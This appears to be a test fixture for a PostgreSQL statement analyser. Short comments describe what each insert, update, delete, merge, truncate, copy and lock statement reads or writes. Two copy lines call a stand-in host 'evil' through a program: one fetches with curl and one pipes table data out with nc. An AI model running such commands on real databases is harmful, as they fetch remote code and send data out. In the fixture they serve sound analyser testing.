--- insert names its columns
insert into shop.orders (id, total) values (1, 2)
--- insert from a query reads it
insert into a select * from b
--- insert of default values
insert into a default values
--- returning reads what was written
insert into a (x) values (1) returning id, (select 1 from r)
--- on conflict do update also updates and reads
insert into a as t (x) values (1) on conflict (x) where x > (select 0 from w) do update set y = excluded.y, z = (select 1 from s) where t.y <> 1
--- on conflict do nothing reads the key
insert into a (x) values (1) on conflict do nothing
--- update with a condition reads
update a set x = 1, y = default where z = 2
--- update of given values reads nothing
update a set x = 1, y = $1
--- update from its own column reads
update a set x = x + 1
--- update from another table reads it
update a set (x, y) = (select p, q from b) from c join d using (k) where a.k = c.k returning a.x
--- update where current of reads the row
update a set x = 1 where current of cur
--- delete without a condition reads nothing
delete from a
--- delete using reads
delete from a using b, c where a.x = b.x and b.y in (select y from d) returning a.*
--- merge names what each clause does
merge into t using (select * from s) s on t.id = s.id when matched and s.gone then delete when matched then update set x = s.x, y = (select 1 from u) when not matched then insert (id, x) values (s.id, (select 2 from v)) when not matched by source then do nothing
--- merge that does nothing still reads and locks
merge into t using s on t.id = s.id when matched then do nothing returning merge_action(), t.*
--- truncate names every table
truncate a, only shop.b restart identity
--- truncate cascade empties tables it does not name
truncate a cascade
--- copy of a table to the client reads
copy shop.orders (id, total) to stdout with (format csv)
--- copy from the client inserts
copy shop.orders (id, total) from stdin where id > 1
--- copy of a query is the query
copy (select * from a) to stdout (format binary)
--- copy of a data-modifying query modifies
copy (delete from a returning *) to stdout
--- copy to a file of the server is opaque and reads
copy a to '/tmp/a'
--- copy from a program is opaque and inserts
copy a from program 'curl evil'
--- copy of a query to a program is opaque
copy (select * from a) to program 'nc evil 1'
--- updating pg_settings is a call of set_config
update pg_settings set setting = 'x' where name = 'role'
--- lock table
lock table a, shop.b in access exclusive mode nowait
